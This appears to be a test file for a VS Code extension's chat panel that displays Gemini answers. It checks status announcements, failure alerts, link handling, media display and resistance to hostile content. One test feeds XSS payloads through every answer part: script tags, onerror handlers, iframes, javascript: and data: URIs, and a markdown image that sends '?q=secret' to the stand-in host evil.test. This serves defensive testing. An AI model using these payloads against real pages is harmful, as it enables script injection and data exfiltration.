import assert from 'node:assert/strict';
import type { AnswerPart } from '../../src/parts/answerPart';
import { onePixel } from '../files';
import { cited, fullConversation, turn } from './turns';
import { usePanels } from './usePanels';

const call = (step: string) => ({ kind: 'toolCall', step, id: 'c', name: '', arguments: {} }) as const;

const hostile = [
  '<img src=x onerror=alert(1)>',
  '<script>fetch("https://evil.test/")</script>',
  '<link rel=prefetch href="https://evil.test/">',
  '<iframe src="https://evil.test/"></iframe>',
  '![x](https://evil.test/?q=secret)',
  '<div style="background:url(https://evil.test/)">',
  '[x](javascript:alert(1))',
].join('\n');

describe('Answers in the panel', () => {
  const open = usePanels();

  it('tells the end of an answer in one status region, and never its text', async () => {
    const panel = await open();
    await panel.snapshot();
    const told: (string | null)[] = [];
    const listen = async () => told.push(await panel.status.textContent());

    for (const status of ['done', 'stopped', 'failed'] as const) {
      await panel.tell({ type: 'turnAdded', turn: turn({ id: status, status: 'waiting' }) });
      await listen();
      await panel.tell({ type: 'partAdded', turnId: status, part: { kind: 'text', text: 'secret' } });
      await panel.tell({ type: 'partGrew', turnId: status, part: 0, text: ' more' });
      await listen();
      await panel.tell({ type: 'turnChanged', turnId: status, status });
      await listen();
    }

    assert.deepEqual(told, ['', '', 'Answer ready', '', '', 'Stopped', '', '', 'The answer failed']);
    const live = await panel.page.locator('[aria-live]:not([aria-live=off]), [role=log]').allTextContents();
    assert.equal(live.join(''), '');
    assert.equal(await panel.status.count(), 1);
    assert.equal(await panel.banner.textContent(), '');
  });

  it('shows a failure where the answer is, with the button that helps', async () => {
    const panel = await open();
    await panel.snapshot();
    await panel.tell(
      { type: 'turnAdded', turn: turn({ status: 'streaming', parts: [{ kind: 'text', text: 'So far' }] }) },
      {
        type: 'turnChanged',
        turnId: 't1',
        status: 'failed',
        failure: { message: 'The connection was lost. Try again.', action: { id: 'retry', label: 'Retry' } },
      },
    );
    const alert = panel.articles.nth(1).getByRole('alert');

    assert.match((await alert.textContent()) ?? '', /The connection was lost/);
    assert.equal(await panel.page.getByText('So far').isVisible(), true);
    await alert.getByRole('button', { name: 'Retry' }).click();
    assert.deepEqual(await panel.postedOf('actOnFailure'), [{ type: 'actOnFailure', turnId: 't1', action: 'retry' }]);
  });

  it('reads out an old failure no second time', async () => {
    const panel = await open();
    const failed = { status: 'failed', failure: { message: 'It failed.' } } as const;

    await panel.snapshot([turn({ id: 'a', ...failed }), turn({ id: 'b', ...failed })]);

    assert.equal(await panel.page.getByText('It failed.').count(), 2);
    assert.equal(await panel.page.getByRole('alert').count(), 1);
  });

  it('opens what went along with a prompt', async () => {
    const panel = await open();
    await panel.snapshot(fullConversation);

    await panel.page.getByRole('button', { name: 'README.md' }).click();

    assert.deepEqual(await panel.postedOf('openAttachment'), [
      { type: 'openAttachment', turnId: 'a', attachmentId: 'f2' },
    ]);
  });

  it('leaves links to the host', async () => {
    const panel = await open();
    await panel.snapshot(fullConversation);
    const link = panel.page.getByRole('link', { name: 'Disposable pattern', exact: true });
    await panel.page.locator('.sources > summary').click();

    assert.equal(await link.getAttribute('title'), 'https://code.visualstudio.com/api/references/vscode-api');
    // A browser connects to an address it knows when the link is pressed, and VS Code's own page opens it.
    assert.equal(await panel.page.locator('[href]:not(head > *)').count(), 0);
    await link.click();
    await link.press('Enter');

    const request = { type: 'openLink', url: 'https://code.visualstudio.com/api/references/vscode-api' };
    assert.deepEqual(await panel.postedOf('openLink'), [request, request]);
  });

  it('folds thoughts and tools away, under a name a person understands', async () => {
    const panel = await open();
    await panel.snapshot([turn({ status: 'streaming', parts: [{ kind: 'thought', text: 'Let me' }] })]);
    const summary = panel.page.locator('summary').first();

    assert.equal((await summary.textContent())?.trim(), 'Thinking');
    assert.equal(await panel.page.getByText('Let me').isVisible(), false);
    await panel.tell(
      { type: 'partGrew', turnId: 't1', part: 0, text: ' see' },
      { type: 'partAdded', turnId: 't1', part: call('google_search_call') },
    );

    const labels = panel.page.locator('.thought-label, .tool > summary .tool-label');
    assert.deepEqual(await labels.allTextContents(), ['Thoughts', 'Searching the web']);
    await summary.click();
    assert.equal(await panel.page.getByText('Let me see').isVisible(), true);
  });

  it('shows pictures it was given and names whatever else it was given', async () => {
    const panel = await open();
    await panel.snapshot(fullConversation);

    const image = panel.page.getByRole('img', { name: 'Picture made by Gemini' });
    await panel.until('hostSide.messages.some(({ type }) => type === "fetchMedia")');
    await panel.tell({
      type: 'mediaArrived',
      turnId: 'b',
      part: 0,
      mimeType: 'image/png',
      bytes: new Uint8Array(Buffer.from(onePixel, 'base64')),
    });
    await panel.until('document.querySelector("img.image").naturalWidth === 1');
    assert.match((await image.getAttribute('src')) ?? '', /^blob:/);
    assert.equal(await panel.page.getByText('Recording made by Gemini (audio/wav)').count(), 1);
    assert.equal(await panel.page.getByText('(video/mp4) that is not loaded').count(), 1);
  });

  it('shows hostile text as text', async () => {
    const panel = await open();
    const parts: AnswerPart[] = [
      { kind: 'text', text: hostile },
      { kind: 'thought', text: hostile },
      { ...call('<img src=x onerror=alert(1)>'), argumentsText: hostile },
      { ...call(hostile), name: hostile, arguments: { [hostile]: hostile }, other: { [hostile]: hostile } },
      { kind: 'toolResult', step: hostile, callId: hostile, name: hostile, result: hostile, isError: true },
      {
        kind: 'toolResult',
        step: 'x',
        callId: '',
        name: '',
        result: [{ search_suggestions: hostile }],
        isError: false,
      },
      { kind: 'unknown', text: hostile },
      { kind: 'media', media: 'image', mimeType: 'image/svg+xml', kept: {} },
      { kind: 'media', media: 'image', mimeType: 'text/html', kept: {} },
      { kind: 'media', media: 'image', mimeType: 'image/png', data: '"><script>' },
      {
        kind: 'text',
        text: 'cited',
        citations: [
          cited(0, 1, 'script', 'javascript:alert(1)'),
          cited(0, 1, 'page', 'data:text/html,<script>alert(1)</script>'),
          cited(0, 1, 'command', 'command:workbench.action.quit'),
          cited(0, 1, 'editor', 'vscode://x/y'),
          cited(0, 1, 'nonsense', 'https://'),
        ],
      },
    ];

    await panel.snapshot([
      turn({ id: '"><img src=x>', prompt: hostile, parts, failure: { message: hostile }, note: hostile }),
    ]);
    await panel.tell({ type: 'partGrew', turnId: '"><img src=x>', part: 0, text: hostile });
    for (const summary of await panel.page.locator('summary').all()) await summary.click();

    assert.equal(await panel.page.getByText('onerror=alert(1)').first().isVisible(), true);
    assert.equal(
      await panel.page.locator('#app').locator('img[src], script, iframe, link, style, form, object').count(),
      0,
    );
    const addresses = await panel.page
      .locator('#app a')
      .evaluateAll((links) => links.map((a) => a.getAttribute('title')));
    assert.deepEqual([...new Set(addresses)].sort(), ['https://evil.test/', 'https://evil.test/?q=secret']);
  });
});
